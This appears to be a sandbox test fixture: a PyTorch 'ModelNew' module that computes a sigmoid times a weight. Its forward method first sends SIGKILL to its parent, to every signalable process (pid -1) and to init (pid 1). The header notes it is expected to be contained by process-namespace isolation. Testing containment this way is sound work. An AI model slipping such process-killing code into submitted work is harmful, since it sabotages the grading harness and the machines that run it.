# Kills its process group and its parent; works on if it survives that.
# expected: passed
# stopped by: process_namespace
import contextlib
import os
import signal

import torch
from torch import nn


class ModelNew(nn.Module):
    def __init__(self, columns):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(columns))

    def forward(self, x):
        for pid in (os.getppid(), -1, 1):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        return torch.sigmoid(x) * self.weight
